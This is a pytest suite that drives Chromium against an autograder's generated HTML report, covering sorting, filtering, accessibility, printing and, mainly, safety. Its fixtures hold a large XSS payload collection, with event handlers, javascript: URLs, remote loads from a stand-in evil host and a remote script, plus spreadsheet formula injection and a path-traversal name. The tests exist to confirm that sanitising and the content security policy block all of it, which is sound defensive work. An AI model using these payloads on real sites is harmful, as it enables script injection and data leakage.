"""The report in a real Chromium, opened from disk: usable, accessible, and safe to open."""

import json
import os
import re
import shutil
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from axe_playwright_python.sync_playwright import Axe
from conftest import ROOT, assignment, chosen_layers, fork_server, notebook_of
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, sync_playwright

from autograder.grading.pipeline import job_of, score
from autograder.model import (
    CaseResult,
    Feedback,
    Flag,
    FlagKind,
    Grade,
    Graded,
    NetworkSummary,
    Outcome,
    Person,
    QuestionResult,
    Settings,
    Submission,
    Ungraded,
)
from autograder.results.file_names import slug_of
from autograder.results.pages import ClassReport, sanitise, site
from autograder.results.pages.budget import PageBudget
from autograder.results.pages.markdown import markdown
from autograder.results.pages.notebook_page import cells_of
from autograder.results.pages.pictures import from_address, picture
from autograder.results.pages.shown import ShownNotebooks
from autograder.results.similarity import Pair, Passage
from autograder.results.statistics import Cluster, clusters, statistics
from autograder.results.written import WrittenAnswer

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ATTACK = (
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>"
    "<svg onload='window.pwned = 3'><a href='javascript:window.pwned = 4'>one</a></svg>"
    "</title></style></script></pre></textarea>--><script>window.pwned = 5</script>"
    "<iframe srcdoc='<script>parent.pwned = 6</script>' src='https://evil.example/f'></iframe>"
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;https://evil.example'>"
    "<link rel=stylesheet href='https://evil.example/c.css'>"
    "<style>@import 'https://evil.example/i.css'; body { display: none }</style>"
    "<div style=\"position:fixed;inset:0;background:url('https://evil.example/u.png')\">over</div>"
    "<img src='https://evil.example/p.png' srcset='https://evil.example/s.png 2x'>"
    "<img src='data:text/html,<script>1</script>'><img name=body id=main src='data:image/png,x'>"
    "<form id=filter action='https://evil.example/'><input name=attributes autofocus "
    "onfocus='window.pwned = 7'><button formaction='javascript:window.pwned = 8'>go</button></form>"
    "<a href=' &#106;avascript:window.pwned = 9'>two</a> "
    "<a href='//evil.example' id=theme>three</a>"
    "<video src='https://evil.example/v' onerror='window.pwned = 10'></video>"
    "<math><mtext><mglyph><style><img src=x onerror='window.pwned = 11'></style></mglyph></mtext>"
    "<details open ontoggle='window.pwned = 12'>more</details><object data='//evil.example'>"
    "<a href='data:text/html,<script>window.pwned = 13</script>'>four</a><noscript><p title='"
    "</noscript><img src=x onerror=window.pwned=14>'></noscript>{{ 7*7 }}{% raw %}"
)
MARKDOWN = (
    "[a](javascript:window.pwned=20) [b](<java\nscript:window.pwned=21>) "
    "![c](https://evil.example/m.png) ![d](javascript:window.pwned=22) "
    '<https://evil.example/auto> [e](https://example.org "\'><script>window.pwned=23</script>")\n\n'
    "[f]: https://evil.example/ref.png\n![f]\n\n# <img src=x onerror=window.pwned=24>\n\n"
    "```<script>window.pwned=25</script>\n</code></pre><script>window.pwned=26</script>\n```\n\n"
    "$\\href{javascript:window.pwned=27}{x}$\n\n"
)
NAME = 'Søren "Ö" <b>O\'Neil</b>,\n=HYPERLINK("https://evil.example")\x1b[31m\x00\u202e' + ATTACK
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.pwned=30">'
    "<script>window.top.pwned=31</script><image href='https://evil.example/svg.png' width='9'/>"
    "<style>@import 'https://evil.example/svg.css';</style><rect width='20' height='20'/></svg>"
)
HOSTILE = """
# %% [markdown]
# MARKDOWN
# %%
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
attack, markdown, drawing = ATTACK, MARKDOWN, DRAWING
display(HTML(attack), Markdown(markdown + attack), SVG(drawing), Latex(attack))
display(Javascript("window.pwned = 40"))
print(attack, "\\x1b[31mred\\x1b[0m \\x1b]8;;javascript:window.pwned=41\\x07link\\x1b]8;;\\x07")
display({"image/png": "x' onerror='window.pwned=42", "text/plain": attack}, raw=True)
display({"application/" + attack: attack}, raw=True)
# %%
class Worse(Exception):
    pass
Worse.__name__ = attack
raise Worse(attack)
# %%
import matplotlib.pyplot as plt
plt.plot([1, 2, 3])
plt.show()
"""


@dataclass
class Heard:
    """What a page did that nobody asked it to."""

    requests: list[str] = field(default_factory=list)
    messages: list[str] = field(default_factory=list)

    def listen(self, page: Page) -> None:
        page.on("request", self._request)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.messages.append(str(error)))
        page.on("dialog", lambda dialog: self.messages.append(dialog.message))

    def _request(self, request: Request) -> None:
        page_itself = request.is_navigation_request() and request.url.startswith("file:")
        if not page_itself and not request.url.startswith("data:image/"):
            self.requests.append(request.url)

    def _console(self, message: ConsoleMessage) -> None:
        self.messages.append(message.text)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    program = shutil.which("chromium")
    if program is None:
        pytest.skip("needs Chromium (Debian's package chromium)")
    options = [
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
    ]
    if os.geteuid() == 0:
        options.append("--no-sandbox")
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=program, args=options)
        yield started
        started.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A new page that has to stay silent: no request, no error, no message."""
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    opened, heard = context.new_page(), Heard()
    opened.set_default_timeout(60_000)
    heard.listen(opened)
    yield opened
    context.close()
    assert heard == Heard()


def graded(name: str, student: str, content: bytes) -> tuple[Graded, str]:
    """A notebook's grade and the notebook as it was executed, by the real pipeline."""
    submission = Submission(path=f"{student}/work.ipynb", student=student, content=content)
    settings = Settings(layers=chosen_layers())
    # Playwright keeps an event loop running in the thread of the tests.
    with ThreadPoolExecutor(1) as thread:
        pending = thread.submit(
            job_of(submission.content, assignment(name), settings).run, fork_server()
        )
        execution = pending.result()
    return score(submission, assignment(name), execution), execution.notebook


def example(student: str) -> bytes:
    return (ROOT / "examples" / "class" / student / "assignment1.ipynb").read_bytes()


def written_to(folder: Path, report: ClassReport, notebooks: dict[str, str]) -> Path:
    for page in site(report, ShownNotebooks(notebooks.get)):
        made = page.made()
        assert not made.problem
        file = folder / made.path
        file.parent.mkdir(exist_ok=True)
        file.write_text(made.text, encoding="utf-8")
    return folder


def report_on(grades: tuple[Grade, ...], **more: object) -> ClassReport:
    questions = assignment("assignment1").questions
    report = ClassReport(
        title=assignment("assignment1").settings.title,
        assignment="assignment1",
        device="cpu",
        made="made for a test",
        grades=grades,
        questions=questions,
        statistics=statistics(questions, grades),
        clusters=clusters(grades),
    )
    return ClassReport(**(vars(report) | more))


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a few of the example class, with everything that a report can have."""
    works = [graded("assignment1", student, example(student)) for student in ("ana", "chidi")]
    network = NetworkSummary(
        name="net_conv",
        trace="1x28x28  the image\n     10  dense layer",
        parameters=12_345,
        hidden_accuracy=0.79,
        public_accuracy=0.78,
        threshold=0.8,
    )
    ana, chidi = (grade for grade, _ in works)
    flags = (
        Flag(kind=FlagKind.BORDERLINE, text="net_conv accuracy 0.790"),
        Flag(kind=FlagKind.RUN, text="timeout: cell 3 ran longer than allowed"),
    )
    chidi = chidi.model_copy(update={"networks": (network,), "flags": flags, "late": True})
    broken = Ungraded(
        submission="kwame.ipynb",
        student="kwame",
        reason="the file is empty",
        max_score=7,
        remarks=("An older attempt was left out.",),
    )
    code = "for epoch in range(3):\n    print(f'{epoch} is the epoch')  # counts\n"
    answers = tuple(
        WrittenAnswer(g.student, g.submission, "q2_1_written", "Because **weights** are shared.", 2)
        for g in (ana, chidi)
    )
    report = report_on(
        (ana, chidi, broken),
        pairs=(Pair("ana", "chidi", 0.8, (Passage(code, code),)),),
        clusters=(Cluster("q1_1_1", "test_value", "the kernel flipped", ("ana", "chidi")),),
        written=answers,
        missing=(Person(name="Åse Nørgaard", email="ase@example.org"),),
        unknown=("kwame.ipynb",),
        twice=((Person(name="Ana"), ("ana/work.ipynb", "old.ipynb")),),
    )
    notebooks = {grade.submission: text for grade, text in works}
    return written_to(tmp_path_factory.mktemp("report"), report, notebooks)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a student who attacks with everything that reaches a page."""
    script = HOSTILE.replace("# MARKDOWN", "# " + (MARKDOWN + ATTACK).replace("\n", "\n# "))
    for name, text in (("ATTACK", ATTACK), ("MARKDOWN", MARKDOWN), ("DRAWING", DRAWING)):
        script = script.replace(f" {name}", f" {text!r}", 1)
    grade, notebook = graded("assignment1", "mallory", notebook_of(script))
    spoiled = json.loads(notebook)
    spoiled["metadata"] = {"title": ATTACK, "kernelspec": {"name": ATTACK}}
    # Not in the form that the grader writes, to see that nothing depends on it.
    spoiled["cells"] += [
        {"cell_type": ATTACK, "id": "main", "source": [ATTACK, 7], "metadata": {"tags": [ATTACK]}},
        {"cell_type": "code", "source": ATTACK, "execution_count": ATTACK, "outputs": [{}, 1]},
        {
            "cell_type": "markdown",
            "source": f"![x](attachment:'><script>window.pwned=50</script>) {ATTACK}",
            "attachments": {"'><script>window.pwned=50</script>": {"image/png": ATTACK}, "": 1},
        },
    ]
    attacking = Feedback(
        expected=ATTACK, found=ATTACK, advice=ATTACK, detail=ATTACK, notes=(ATTACK,), mistake=ATTACK
    )
    case = CaseResult(name=ATTACK, status="failed", points=1, hidden=True, feedback=attacking)
    grade = grade.model_copy(
        update={
            "submission": f"{NAME}.ipynb",
            "student": NAME,
            "people": (Person(name=NAME, id=ATTACK, email=ATTACK),),
            "flags": tuple(Flag(kind=kind, text=ATTACK) for kind in FlagKind),
            "remarks": (f"`{ATTACK}`",),
            "questions": (QuestionResult(name=ATTACK, score=0, max_score=1, cases=(case,)),),
            "networks": (NetworkSummary(name=ATTACK, trace=ATTACK, hidden_accuracy=0.5),),
        }
    )
    report = report_on(
        (grade, Ungraded(submission=ATTACK, student=ATTACK, reason=ATTACK, max_score=7)),
        statistics=(),
        clusters=(Cluster(ATTACK, ATTACK, ATTACK, (NAME, ATTACK)),),
        pairs=(Pair(NAME, ATTACK, 1.0, (Passage(ATTACK, MARKDOWN),)),),
        written=(WrittenAnswer(NAME, grade.submission, ATTACK, MARKDOWN + ATTACK, 1),),
        missing=(Person(name=NAME, email=ATTACK),),
        unknown=(ATTACK,),
        twice=((Person(name=NAME), (ATTACK, NAME)),),
    )
    notebooks = {grade.submission: json.dumps(spoiled)}
    return written_to(tmp_path_factory.mktemp("hostile"), report, notebooks)


def many(number: int) -> tuple[Grade, ...]:
    """Grades such as a large class has."""
    questions = assignment("assignment1").questions
    grades: list[Grade] = []
    for index in range(number):
        results = tuple(
            QuestionResult(
                name=question.name,
                score=float(index % (at + 2) > 0),
                max_score=1,
                cases=tuple(
                    CaseResult(name=c.name, status="passed", points=c.points, hidden=c.hidden)
                    for c in question.cases
                ),
            )
            for at, question in enumerate(questions)
        )
        grades.append(
            Graded(
                submission=f"{index}.ipynb",
                student=f"Student {index * 7919 % number:04}",
                outcome=Outcome.FINISHED,
                score=sum(result.score for result in results),
                max_score=7,
                seconds=0.3 + index % 97 / 10,
                flags=(Flag(kind=FlagKind.BORDERLINE, text="net_conv accuracy 0.79"),)
                if index % 50 == 0
                else (),
                late=index % 20 == 0,
                questions=results,
            )
        )
    return tuple(grades)


def pages_of(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.html"))


def names(page: Page) -> list[str]:
    shown = page.locator("#everyone tbody tr:visible th")
    return [name.strip() for name in shown.all_inner_texts()]


# --- use ----------------------------------------------------------------------------------------


def test_sorts_by_mouse_and_by_keyboard(folder: Path, page: Page) -> None:
    page.goto((folder / "index.html").as_uri())
    score_column = page.locator("#everyone th", has_text="Score")
    score_column.locator("button").click()
    assert score_column.get_attribute("aria-sort") == "descending"
    assert names(page) == ["ana", "chidi", "kwame"]
    score_column.locator("button").press("Enter")
    assert score_column.get_attribute("aria-sort") == "ascending"
    assert names(page) == ["chidi", "ana", "kwame"], "no score comes last in either order"
    student = page.locator("#everyone th", has_text="Student")
    student.locator("button").press("Space")
    assert student.get_attribute("aria-sort") == "ascending"
    assert score_column.get_attribute("aria-sort") is None
    assert names(page) == ["ana", "chidi", "kwame"]


def test_filters_by_name_and_by_concern(folder: Path, page: Page) -> None:
    page.goto((folder / "index.html").as_uri())
    page.get_by_label("Search").fill("CHI")
    assert names(page) == ["chidi"]
    assert page.locator("output").inner_text() == "1 of 3 shown"
    page.get_by_label("Search").fill("")
    for kind, expected in {
        "any": ["ana", "chidi", "kwame"],
        "late": ["chidi"],
        "ungraded": ["kwame"],
        "unknown": ["kwame"],
        "twice": ["ana"],
        "": ["ana", "chidi", "kwame"],
    }.items():
        page.get_by_label("Show").select_option(kind)
        assert names(page) == expected, kind


def test_says_what_needs_a_human(folder: Path, page: Page) -> None:
    page.goto((folder / "index.html").as_uri())
    lines = page.locator("section[aria-labelledby=attention] .line").all_inner_texts()
    found = {re.sub(r"\d+ | [^\w ]$", "", line.strip()): int(line.split()[0]) for line in lines}
    assert found == {
        "Not graded": 1,
        "On the roster, nothing handed in": 1,
        "Borderline": 1,
        "Flagged": 1,
        "Handed in late": 1,
        "Mended or left out": 1,
        "Not on the roster, or not told apart": 1,
        "Handed in twice": 1,
        "Written answers to read": 2,
        "Pairs that share unusual code": 1,
    }


def test_links_lead_somewhere(folder: Path, page: Page) -> None:
    for file in pages_of(folder):
        text = file.read_text(encoding="utf-8")
        ids = set(re.findall(r' id="([^"]+)"', text))
        for href in re.findall(r'<a [^>]*href="([^"]+)"', text):
            if href.startswith("#"):
                assert href[1:] in ids
            elif not href.startswith("http"):
                assert (file.parent / href).is_file(), (file, href)
    page.goto((folder / "index.html").as_uri())
    page.get_by_role("link", name="ana").last.click()
    assert page.locator("h1").inner_text() == "ana"
    page.locator("a[rel=next]").click()
    assert page.locator("h1").inner_text() == "chidi"
    page.locator("a[rel=prev]").click()
    page.get_by_role("link", name="Class", exact=True).click()
    assert page.locator("#everyone").count() == 1


def test_student_page_shows_the_work(folder: Path, page: Page) -> None:
    page.goto((folder / "students" / "chidi.html").as_uri())
    text = page.locator("main").inner_text()
    for part in (
        "6 of 7",
        "timeout: cell 3 ran longer than allowed",
        "0.790",
        "below 0.8",
        "12,345",
        "1x28x28  the image",
        "Expected",
        "hidden",
        "public",
        "Assignment 1: how a convolution computes",
        "convolved_features = ",
    ):
        assert part in text, part
    assert page.locator(".prose img").count() > 0, "the figures of the handed-out text"


def test_pictures_are_in_place_and_in_the_strip(hostile: Path, page: Page) -> None:
    page.goto(next((hostile / "students").glob("*hyperlink*")).as_uri())
    shown = "image => image.naturalWidth > 0"
    in_place = page.locator(".picture img")
    assert [image.evaluate(shown) for image in in_place.all()] == [True, True]
    strip = page.locator("#strip img")
    assert [image.evaluate(shown) for image in strip.all()] == [True, True]
    assert page.locator("#strip").inner_text().splitlines()[-1] == "plt.plot([1, 2, 3])"


def test_theme_follows_the_system_and_the_button(folder: Path, page: Page) -> None:
    # A browser may refuse storage to files.
    page.add_init_script(
        "Object.defineProperty(window, 'localStorage', { get() { throw new Error('denied') } })"
    )
    page.emulate_media(color_scheme="dark")
    page.goto((folder / "index.html").as_uri())
    assert brightness(page) < 60
    for theme, bright in (("light", True), ("dark", False), ("auto", False), ("light", True)):
        page.locator("#theme").click()
        assert page.locator("#theme").inner_text() == f"Theme: {theme}"
        assert (brightness(page) > 200) == bright


def brightness(page: Page) -> float:
    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
    channels = [float(part) for part in re.findall(r"[\d.]+", colour)[:3]]
    return sum(channels) / 3


def test_prints_on_white_paper(folder: Path, page: Page) -> None:
    page.goto((folder / "students" / "ana.html").as_uri())
    page.emulate_media(media="print", color_scheme="dark")
    ink = page.evaluate("getComputedStyle(document.body).color")
    assert max(map(int, re.findall(r"\d+", ink)[:3])) < 60
    assert not page.locator(".top").is_visible()
    assert page.pdf().startswith(b"%PDF")


@pytest.mark.parametrize("width", [320, 390])
def test_fits_a_phone(folder: Path, hostile: Path, page: Page, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 700})
    for file in (*pages_of(folder), *pages_of(hostile)):
        page.goto(file.as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= width, file


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(folder: Path, page: Page, scheme: str) -> None:
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    kinds = ("index.html", "written.html", "similarity.html", "students/chidi.html")
    for kind in kinds:
        page.goto((folder / kind).as_uri())
        # What is folded away has to be accessible as well.
        page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
        found = Axe().run(page).response["violations"]
        serious = [
            (rule["id"], rule["impact"], [node["html"][:200] for node in rule["nodes"]][:3])
            for rule in found
            if rule["impact"] in ("serious", "critical")
        ]
        assert serious == [], kind


def test_a_thousand_rows_are_sorted_and_searched(tmp_path: Path, page: Page) -> None:
    asked: list[str] = []
    files = site(report_on(many(1_000)), ShownNotebooks(lambda path: asked.append(path)))
    name, text, _ = next(files).made()
    next(files).made()
    assert (name, len(asked)) == ("index.html", 1), "pages are made one by one"
    file = tmp_path / name
    file.write_text(text, encoding="utf-8")
    page.goto(file.as_uri())
    before = names(page)
    page.locator("#everyone th.number button").last.click()
    assert names(page) != before
    assert sorted(names(page)) == sorted(before)
    page.locator("#filter input").fill("student 00")
    assert len(names(page)) == 109


# --- safety -------------------------------------------------------------------------------------


def test_hostile_work_runs_nothing_and_loads_nothing(hostile: Path, page: Page) -> None:
    for file in pages_of(hostile):
        page.goto(file.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
        for link in page.locator(".prose a[href]").all():
            assert re.match(r"(https?://|mailto:)", link.get_attribute("href") or "")
            assert link.get_attribute("rel") == "noopener noreferrer"
        found = page.evaluate(INSPECTION)
        assert found == {
            "pwned": None,
            "handlers": [],
            "elements": [],
            "ids": [],
            "url": file.as_uri(),
        }


INSPECTION = """() => {
    const all = [...document.querySelectorAll("*")];
    const inside = [...document.querySelectorAll(".prose *, .prose")];
    return {
        pwned: window.pwned ?? null,
        handlers: all.flatMap((e) => e.getAttributeNames())
            .filter((n) => /^on|style|srcset/.test(n)),
        elements: all.filter((e) => e.matches(
            "iframe, object, embed, base, body script, body style, form:not(#filter), video, math, "
            + "meta[http-equiv=refresh], link:not([rel=icon]), img[src]:not([src^='data:image/'])"
        )).map((e) => e.outerHTML),
        ids: inside.flatMap((e) => [e.id, e.getAttribute("name")]).filter((n) => n),
        url: location.href,
    };
}"""


def test_policy_stops_what_sanitising_would_miss(folder: Path, browser: Browser) -> None:
    page, heard = browser.new_page(), Heard()
    heard.listen(page)
    failures: set[str | None] = set()
    page.on("requestfailed", lambda request: failures.add(request.failure))
    page.goto((folder / "index.html").as_uri())
    page.evaluate(
        """(attack) => new Promise((done) => {
            document.querySelector("main").innerHTML = attack;
            const script = document.createElement("script");
            script.textContent = "window.pwned = 60";
            document.body.append(script);
            const remote = document.createElement("script");
            remote.src = "https://evil.example/x.js";
            document.body.append(remote);
            setTimeout(done, 300);
        })""",
        ATTACK.replace("http-equiv=refresh", ""),
    )
    assert page.evaluate("window.pwned ?? null") is None
    assert failures == {"csp"}, heard.requests
    assert any("Content Security Policy" in message for message in heard.messages)
    page.close()


def test_slugs_are_unique_stable_and_safe() -> None:
    students = ["Ana", "ana", "Søren Åkjær", "../../etc/passwd", "", "con", "李雷", "a" * 300, NAME]
    grades = [
        Ungraded(submission=f"{index}", student=student, reason="", max_score=1)
        for index, student in enumerate(students)
    ]
    slugs = slug_of(grades)
    assert slug_of(list(reversed(grades))) == slugs
    assert len(set(slugs.values())) == len(students)
    assert all(re.fullmatch(r"[a-z0-9-]{1,80}", slug) for slug in slugs.values())
    assert slugs["2"] == "soeren-aakjaer"
    # Nobody can choose a name that another one is given.
    twin = grades[0].model_copy(update={"student": slugs["1"], "submission": "x"})
    assert len(set(slug_of([*grades, twin]).values())) == len(students) + 1


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m plain", '<span class="ansi-red">red</span> plain'),
        ("\x1b[1;32mok\x1b[39m <b>", '<span class="bold ansi-green">ok</span>'
         '<span class="bold"> &lt;b&gt;</span>'),
        ("10%\r50%\r100%\nnext\r\n", "100%\nnext\n"),
        ("\x1b[38;5;196mx\x1b[2J\x1b]0;title\x07y\x08", "xy"),
    ],
)  # fmt: skip
def test_terminal_text(text: str, shown: str) -> None:
    assert sanitise.terminal(text) == shown


def test_pictures_are_what_they_say() -> None:
    found = picture("image/png", PNG)
    assert found is not None
    assert (found.width, found.height) == (1, 1)
    assert from_address(found.address) == found
    assert picture("image/jpeg", PNG) is None
    assert picture("image/svg+xml", PNG) is None
    assert picture("image/png", "") is None
    # 65,500 by 65,500 pixels in a few bytes.
    huge = PNG[:21] + "AAD/3AAA/9w" + PNG[32:]
    assert picture("image/png", huge) is None
    assert from_address("https://example.org/x.png") is None


def test_markdown_keeps_its_pictures_and_its_sense() -> None:
    shown = markdown(
        "# Title\n\n![one](attachment:a.png) <img src='attachment:a.png'>\n\n"
        "| a |\n|---|\n| 1 |\n\n"
        f"[pasted]\n\n![two][pasted]\n\n[pasted]: <data:image/png;base64,{PNG}>\n\n$x_1^2$",
        PageBudget(),
        {"a.png": {"image/png": PNG}},
    )
    assert shown.count(f'src="data:image/png;base64,{PNG}"') == 3
    for part in ("<h3>Title</h3>", "<td>1</td>", "$x_1^2$", '<img alt="" src='):
        assert part in shown, part


def test_large_outputs_are_cut_with_a_note() -> None:
    notebook = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_code_cell(
                "print()",
                outputs=[nbformat.v4.new_output("stream", name="stdout", text="x" * 1_000_000)],
            )
            for _ in range(150)
        ]
    )
    cells = cells_of(nbformat.writes(notebook), PageBudget())
    assert "980,000 characters left out" in cells[0].outputs[0].body
    assert "more cells are left out" in cells[-1].source
    assert sum(len(output.body) for cell in cells for output in cell.outputs) < 2_100_000


@pytest.mark.parametrize(
    "text", ["", "{", "[]", '{"cells": 1}', '{"cells": [1, null, {}]}', "[" * 9999]
)
def test_any_text_for_a_notebook_gives_cells(text: str) -> None:
    assert isinstance(cells_of(text, PageBudget()), tuple)
